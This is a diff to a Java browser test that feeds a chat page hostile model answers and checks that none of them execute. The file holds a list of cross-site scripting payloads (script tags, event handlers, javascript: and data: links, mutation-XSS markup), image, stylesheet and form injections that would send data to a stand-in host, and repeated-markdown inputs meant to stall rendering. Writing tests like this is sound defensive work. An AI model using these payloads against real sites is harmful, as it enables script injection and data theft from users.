@@ -14,19 +14,49 @@ import org.jboss.shrinkwrap.api.spec.WebArchive;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.ValueSource;
 
 /** Answers that would harm a page which believes them. */
 class ChatPageHostileIT extends BrowserTest {
   private static final StubModelServer MODEL = StubModelServer.started();
   private static final int LONGEST_STANDSTILL_MILLIS = 3_000;
 
+  private static final List<String> HARM =
+      List.of(
+          "<script>window.harmed = 1</script>",
+          "<img src=x onerror=\"window.harmed = 1\">",
+          "<svg onload=\"window.harmed = 1\"><animate onbegin=\"window.harmed = 1\"></svg>",
+          "<iframe src=\"javascript:window.top.harmed = 1\"></iframe>",
+          "<a href=\"javascript:window.harmed = 1\" id=there>click me</a>",
+          "[click me](javascript:window.harmed=1)",
+          "[click me](JaVaScRiPt&colon;window.harmed=1)",
+          "[click me](data:text/html,<script>alert(1)</script>)",
+          "[click me](vbscript:harmed)",
+          "![a picture](https://elsewhere.example/pixel.png?secret)",
+          "![a picture](//elsewhere.example/pixel.png)",
+          "![a picture](javascript:window.harmed=1)",
+          "<link rel=stylesheet href=https://elsewhere.example/a.css>",
+          "<style>* { background: url(https://elsewhere.example/a.png) }</style>",
+          "<form action=https://elsewhere.example><input name=password><button>Log in</button></form>",
+          "<div style=\"position:fixed;inset:0;background:url(https://elsewhere.example/b)\">x</div>",
+          "<base href=https://elsewhere.example/><meta http-equiv=refresh content=\"0;url=x\">",
+          "<math><mtext><table><mglyph><style><img src=x onerror=window.harmed=1>",
+          "```html\"onmouseover=\"window.harmed=1\n<b>x</b>\n```",
+          "[x]: javascript:window.harmed=1\n\n[x]",
+          "<https://elsewhere.example/\"onclick=\"window.harmed=1>");
+  private static final List<String> UNITS =
+      List.of(">", "- > ", "[", "![", "[a](b", "*a ", "**a *b ", "_a_", "***", "`", "<a ", "|a");
+  private static final String HARMFUL =
+      "script, img, svg:not([data-icon]), iframe, style, link, form, input, base, meta, math, object,"
+          + " [style], [id], [onclick], [onerror], [onload], [onmouseover], a[href]:not([href^=http])";
+
   private final List<String> complaints = new ArrayList<>();
 
   @Deployment(testable = false)
   static WebArchive war() {
-    return Wars.asking(MODEL.url());
+    return Wars.configured(
+        Wars.assistants4j(),
+        "assistants.engine.model.url=%s\nassistants.engine.model.name=stub\nassistants.chat.rate=0"
+            .formatted(MODEL.url()));
   }
 
   @AfterAll
@@ -45,44 +75,24 @@ class ChatPageHostileIT extends BrowserTest {
     page.onPageError(complaints::add);
   }
 
-  @ParameterizedTest
-  @ValueSource(
-      strings = {
-        "<script>window.harmed = 1</script>",
-        "<img src=x onerror=\"window.harmed = 1\">",
-        "<svg onload=\"window.harmed = 1\"><animate onbegin=\"window.harmed = 1\"></svg>",
-        "<iframe src=\"javascript:window.top.harmed = 1\"></iframe>",
-        "<a href=\"javascript:window.harmed = 1\" id=there>click me</a>",
-        "[click me](javascript:window.harmed=1)",
-        "[click me](JaVaScRiPt&colon;window.harmed=1)",
-        "[click me](data:text/html,<script>alert(1)</script>)",
-        "[click me](vbscript:harmed)",
-        "![a picture](https://elsewhere.example/pixel.png?secret)",
-        "![a picture](//elsewhere.example/pixel.png)",
-        "![a picture](javascript:window.harmed=1)",
-        "<link rel=stylesheet href=https://elsewhere.example/a.css>",
-        "<style>* { background: url(https://elsewhere.example/a.png) }</style>",
-        "<form action=https://elsewhere.example><input name=password><button>Log in</button></form>",
-        "<div style=\"position:fixed;inset:0;background:url(https://elsewhere.example/b)\">x</div>",
-        "<base href=https://elsewhere.example/><meta http-equiv=refresh content=\"0;url=x\">",
-        "<math><mtext><table><mglyph><style><img src=x onerror=window.harmed=1>",
-        "```html\"onmouseover=\"window.harmed=1\n<b>x</b>\n```",
-        "[x]: javascript:window.harmed=1\n\n[x]",
-        "<https://elsewhere.example/\"onclick=\"window.harmed=1>"
-      })
-  void doesNothing(String answer) {
-    MODEL.then(StubReply.text("Before. ", answer, "\n\nAfter."));
+  @Test
+  void nothingOfItDoesAnything() {
+    for (String answer : HARM) {
+      MODEL.then(StubReply.text("Before. ", answer, "\n\nAfter."));
+      chat.ask("Do your worst");
+      assertThat(chat.messages().last()).containsText("After.");
+      assertHarmless(answer);
+    }
+    page.reload();
+    assertThat(chat.messages()).hasCount(2 * HARM.size());
+    assertHarmless("all of them, restored");
+  }
 
-    chat.ask("Do your worst");
-    assertThat(chat.messages().last()).containsText("After.");
-
-    String harmful =
-        "script, img, svg:not([data-icon]), iframe, style, link, form, input, base, meta, math, object, [style],"
-            + " [id], [onclick], [onerror], [onload], [onmouseover], a[href]:not([href^=http])";
-    assertThat(chat.messages().last().locator(harmful)).hasCount(0);
-    assertEquals(true, page.evaluate("window.harmed === undefined"));
-    assertEquals(List.of(), complaints);
-    assertEquals(List.of(), elsewhere);
+  private void assertHarmless(String answer) {
+    assertEquals(0, chat.messages().locator(HARMFUL).count(), answer);
+    assertEquals(true, page.evaluate("window.harmed === undefined"), answer);
+    assertEquals(List.of(), complaints, answer);
+    assertEquals(List.of(), elsewhere, answer);
   }
 
   @Test
@@ -95,16 +105,14 @@ class ChatPageHostileIT extends BrowserTest {
     assertThat(chat.link("there")).hasAttribute("rel", "noopener noreferrer");
   }
 
-  @ParameterizedTest
-  @ValueSource(
-      strings = {">", "- > ", "[", "![", "[a](b", "*a ", "**a *b ", "_a_", "***", "`", "<a ", "|a"})
-  void thirtyThousandCharactersOfOneKindDoNotStopThePage(String unit) {
-    MODEL.then(StubReply.text("So: ", unit.repeat(30_000 / unit.length()), "\n\nAfter."));
+  @Test
+  void thirtyThousandCharactersOfOneKindDoNotStopThePage() {
     noteStandstills();
-
-    chat.ask("Do your worst");
-
-    assertThat(chat.messages().last()).containsText("After.");
+    for (String unit : UNITS) {
+      MODEL.then(StubReply.text("So: ", unit.repeat(30_000 / unit.length()), "\n\nAfter."));
+      chat.ask("Do your worst");
+      assertThat(chat.messages().last()).containsText("After.");
+    }
     assertStandstillsAreShort();
   }
 
